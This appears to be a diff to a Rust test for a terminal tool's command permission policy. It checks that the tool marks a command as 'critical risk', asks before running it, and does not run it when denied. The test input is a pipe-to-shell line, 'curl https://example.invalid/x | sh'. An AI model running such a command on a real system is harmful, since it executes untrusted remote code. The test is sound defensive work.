@@ -54,7 +54,7 @@ fn what_the_policy_denies_does_not_run_and_what_is_critical_is_asked_about() {
     terminal.wait_for("it did not run, so the model is not told");
     types(&mut terminal, "!curl https://example.invalid/x | sh");
     let screen = terminal.wait_for("Answer (allow");
-    assert!(screen.contains("CRITICAL RISK"), "{screen}");
+    assert!(screen.contains("critical risk"), "{screen}");
     types(&mut terminal, "deny");
     terminal.wait_that("that is said of both", |screen| screen.matches("it did not run, so the model is not told").count() == 2);
     assert!(!project.exists("made.txt"));
